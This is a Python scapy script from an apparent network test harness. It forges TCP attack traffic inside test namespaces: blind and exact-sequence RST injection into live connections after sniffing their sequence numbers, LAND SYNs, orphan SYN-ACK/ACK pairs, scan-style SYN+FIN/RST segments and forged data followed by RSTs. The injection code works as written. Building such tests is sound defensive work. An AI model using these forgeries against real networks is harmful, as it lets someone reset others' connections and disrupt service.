#!/usr/bin/python3
"""spoof: segments a blind attacker would send, from the client namespace.

Run inside the client namespace (ip netns exec NS_C /usr/bin/python3 spoof.py ...).
Frames go out of the client's veth (vc) with AF_PACKET to --peer-mac, so they arrive at the
server veth's ingress hook like anything from the network, from the Ethernet
source FORGED_MAC. Every address is
one the test assigned to its own namespaces.

  orphan-pairs --count N --src-net 10.77.99.0/24 --dst S4 --dport P
      N pairs of a SYN-ACK and the ACK "answering" it, with numbers the
      sender chose and no SYN before them: what used to create an
      established connection out of nothing.

  blind-rst --dst S4 --dport P --conns N --per-conn K
      Waits (bounded) for N live connections from this namespace to S4:P,
      learns each one's client sequence number from one of its segments,
      then sends K RSTs per connection "from the client" whose sequence
      numbers are half the sequence space away from the real one (so the
      test is deterministic: a truly blind RST is in the window once in
      2^14 tries). Prints the number of RSTs sent.

  land --count N --dst S4 --dport P
      N LAND SYNs: source and destination S4, each with one port at both
      ends (P, P+1, ...); the server's kernel drops them as martians.

  syn-strays --count N --src-net 10.77.99.0/24 --dst S4 --dport P
      N segments with SYN and FIN or RST (SYN+FIN, SYN+RST, SYN+FIN+RST in
      turn) to a listening port from sources in --src-net: what a scan
      sends; a listener drops them all.

  syn-rst-exact --dst S4 --dport P --conns N
      Waits (bounded) for a data segment of each of N live connections
      from this namespace to S4:P and then sends a SYN+RST "from the client"
      (every other one SYN+RST+ACK, with the client's ack) with exactly the
      next sequence number (the server's RCV.NXT), a moment
      after that segment so it arrives behind it: the server's kernel takes
      it as a RST (RST before SYN) and resets its socket. Prints the number
      sent.

  blind-data-rst --dst S4 --dport P --conns N --per-conn K
      The same connections; per connection K times two bytes of forged
      client data crossing a sequence block 2^28 past the real position,
      then a RST right after that data: what used to move the position a
      RST is checked against. Prints the number of RSTs sent.
"""

import argparse
import ipaddress
import random
import socket
import sys
import threading
import time

from scapy.all import AsyncSniffer
from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether

IFACE = "vc"
# The Ethernet source of every forged frame: the monitor never looks at it,
# and the tests' reference (analyze.py) leaves such frames out of what the
# real stacks sent.
FORGED_MAC = "02:00:00:00:f0:9e"


def mac_of(ifname):
    with open("/sys/class/net/%s/address" % ifname) as f:
        return f.read().strip()


def raw_socket():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((IFACE, 0))
    return s


def orphan_pairs(a):
    s, src, dst = raw_socket(), FORGED_MAC, a.peer_mac
    hosts = list(ipaddress.ip_network(a.src_net).hosts())
    for i in range(a.count):
        client = str(hosts[i % len(hosts)])
        sport = 20000 + i
        isn_c, isn_s = random.getrandbits(32), random.getrandbits(32)
        # SYN-ACK "from the server" to a client that never sent a SYN ...
        synack = Ether(src=src, dst=dst) / IP(src=a.dst, dst=client) / TCP(
            sport=a.dport, dport=sport, flags="SA", seq=isn_s, ack=(isn_c + 1) & 0xFFFFFFFF)
        # ... and the ACK that would complete it, both numbered by the sender.
        ack = Ether(src=src, dst=dst) / IP(src=client, dst=a.dst) / TCP(
            sport=sport, dport=a.dport, flags="A", seq=(isn_c + 1) & 0xFFFFFFFF,
            ack=(isn_s + 1) & 0xFFFFFFFF)
        s.send(bytes(synack))
        time.sleep(0.002)
        s.send(bytes(ack))
        time.sleep(0.002)
    print(a.count)


# What a stray segment of no connection may be: an ACK or a FIN of a
# spoofed ACK or FIN flood, a RST of a RST flood, the SYN-ACK of
# backscatter. strays() sends them in turn, so count / 4 of each.
STRAY_FLAGS = ("A", "FA", "R", "SA")


def send_strays(a, flags):
    """a.count segments of no connection to a.dst:a.dport, from sources in
    a.src_net (routed back into the sender's namespace), numbered at
    random, with each of flags in turn."""
    s, src, dst = raw_socket(), FORGED_MAC, a.peer_mac
    hosts = list(ipaddress.ip_network(a.src_net).hosts())
    for i in range(a.count):
        p = Ether(src=src, dst=dst) / IP(src=str(hosts[i % len(hosts)]), dst=a.dst) / TCP(
            sport=30000 + i % 30000, dport=a.dport, flags=flags[i % len(flags)],
            seq=random.getrandbits(32), ack=random.getrandbits(32))
        s.send(bytes(p))
    print(a.count)


def strays(a):
    send_strays(a, STRAY_FLAGS)


# A scan's SYNs with FIN or RST, which no listener answers.
SYN_STRAY_FLAGS = ("SF", "SR", "SFR")


def syn_strays(a):
    send_strays(a, SYN_STRAY_FLAGS)


def syn_rst_exact(a):
    """A SYN+RST at the next sequence number of each of a.conns
    connections, sent 30 ms after a data segment of it: long enough for
    that segment to reach the server first (the raw socket may send on
    another CPU), short against the trickle's gap before the client's next
    byte."""
    due = {}   # client port -> (when to send, sequence number)
    lock = threading.Lock()

    def note(p):
        if TCP in p and p[IP].dst == a.dst and p[TCP].dport == a.dport and \
                not p[TCP].flags & 0x7 and len(p[TCP].payload) > 0:
            with lock:
                due.setdefault(p[TCP].sport, (p.time + 0.03, p[IP].src,
                                              (p[TCP].seq + len(p[TCP].payload)) & 0xFFFFFFFF,
                                              p[TCP].ack))

    s, src, dst = raw_socket(), FORGED_MAC, a.peer_mac
    sniffer = AsyncSniffer(iface=IFACE, filter="tcp and dst port %d" % a.dport, prn=note,
                           store=False)
    sniffer.start()
    sent, deadline = set(), time.time() + a.timeout
    while len(sent) < a.conns and time.time() < deadline:
        with lock:
            ready = [(k, v) for k, v in due.items() if k not in sent and v[0] <= time.time()]
        for sport, (_, ip_src, seq, ack) in ready:
            # Every other one with ACK too (the client's own ack): the
            # SYN-ACK path, and an abort whose sequence number counts.
            flags = "SRA" if len(sent) % 2 else "SR"
            rst = Ether(src=src, dst=dst) / IP(src=ip_src, dst=a.dst) / TCP(
                sport=sport, dport=a.dport, flags=flags, seq=seq, ack=ack if "A" in flags else 0)
            s.send(bytes(rst))
            sent.add(sport)
        time.sleep(0.002)
    sniffer.stop()
    if len(sent) < a.conns:
        raise SystemExit("spoof: saw %d of %d connections within %g s" %
                         (len(sent), a.conns, a.timeout))
    print(len(sent))


def land(a):
    """a.count LAND SYNs: source = destination = a.dst, the ports a.dport
    + i at both ends, as a LAND attack forges them; the first at a.dport."""
    s, src, dst = raw_socket(), FORGED_MAC, a.peer_mac
    for i in range(a.count):
        port = a.dport + i
        p = Ether(src=src, dst=dst) / IP(src=a.dst, dst=a.dst) / TCP(
            sport=port, dport=port, flags="S", seq=random.getrandbits(32))
        s.send(bytes(p))
        time.sleep(0.002)
    print(a.count)


def sniff_client_segments(a):
    """A segment (no SYN, FIN or RST) of each of a.conns client ports."""
    seen = {}

    def note(p):
        if TCP in p and p[IP].dst == a.dst and p[TCP].dport == a.dport and not p[TCP].flags & 0x7:
            seen.setdefault(p[TCP].sport, p)

    sniffer = AsyncSniffer(iface=IFACE, filter="tcp and dst port %d" % a.dport, prn=note,
                           store=False)
    sniffer.start()
    deadline = time.time() + a.timeout
    while len(seen) < a.conns and time.time() < deadline:
        time.sleep(0.05)
    sniffer.stop()
    if len(seen) < a.conns:
        raise SystemExit("spoof: saw %d of %d connections within %g s" %
                         (len(seen), a.conns, a.timeout))
    return seen


def blind_rst(a):
    seen = sniff_client_segments(a)
    s, src, dst = raw_socket(), FORGED_MAC, a.peer_mac
    sent = 0
    for k in range(a.per_conn):
        for sport, p in seen.items():
            seq = (p[TCP].seq + 0x80000000 + k * 0x100000) & 0xFFFFFFFF
            rst = Ether(src=src, dst=dst) / IP(src=p[IP].src, dst=p[IP].dst) / TCP(
                sport=sport, dport=a.dport, flags="R", seq=seq)
            s.send(bytes(rst))
            sent += 1
        time.sleep(a.gap)
    print(sent)


def blind_data_rst(a):
    """Per connection and round, forged client data that crosses a 128 KiB
    sequence block 2^28 and more past the client's real position (out of
    the server's window, so its kernel drops it, but less than 2^30 ahead,
    a jump a monitor would sample), then a RST right after that data. The
    real numbers place the forgery deterministically; a blind spoofer's
    random ones land so one time in four."""
    seen = sniff_client_segments(a)
    s, src, dst = raw_socket(), FORGED_MAC, a.peer_mac
    sent = 0
    for k in range(a.per_conn):
        for sport, p in seen.items():
            base = (p[TCP].seq + 0x10000000 + k * 0x1000000) & ~0x1FFFF & 0xFFFFFFFF
            seq = (base + 0x20000 - 1) & 0xFFFFFFFF
            ip = IP(src=p[IP].src, dst=p[IP].dst)
            data = Ether(src=src, dst=dst) / ip / TCP(
                sport=sport, dport=a.dport, flags="PA", seq=seq, ack=p[TCP].ack) / b"xx"
            rst = Ether(src=src, dst=dst) / ip / TCP(
                sport=sport, dport=a.dport, flags="R", seq=(seq + 2) & 0xFFFFFFFF)
            s.send(bytes(data))
            time.sleep(0.002)
            s.send(bytes(rst))
            sent += 1
        time.sleep(a.gap)
    print(sent)


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    o = sub.add_parser("orphan-pairs")
    st = sub.add_parser("strays")
    ss = sub.add_parser("syn-strays")
    ld = sub.add_parser("land")
    for q in (o, st, ss, ld):
        q.add_argument("--count", type=int, required=True)
        q.add_argument("--dst", required=True)
        q.add_argument("--dport", type=int, required=True)
    for q in (o, st, ss):
        q.add_argument("--src-net", required=True)
    blind = [sub.add_parser(name) for name in ("blind-rst", "blind-data-rst", "syn-rst-exact")]
    for b in blind:
        b.add_argument("--dst", required=True)
        b.add_argument("--dport", type=int, required=True)
        b.add_argument("--conns", type=int, required=True)
        b.add_argument("--per-conn", type=int, default=5)
        b.add_argument("--gap", type=float, default=0.1)
        b.add_argument("--timeout", type=float, default=10.0)
    for q in [o, st, ss, ld] + blind:
        q.add_argument("--peer-mac", required=True, help="the server veth's MAC address")
    a = ap.parse_args()
    if (a.conns if hasattr(a, "conns") else a.count) > 4096:
        raise SystemExit("spoof: at most 4096 flows")
    {"orphan-pairs": orphan_pairs, "strays": strays, "syn-strays": syn_strays, "land": land,
     "blind-rst": blind_rst, "blind-data-rst": blind_data_rst,
     "syn-rst-exact": syn_rst_exact}[a.cmd](a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
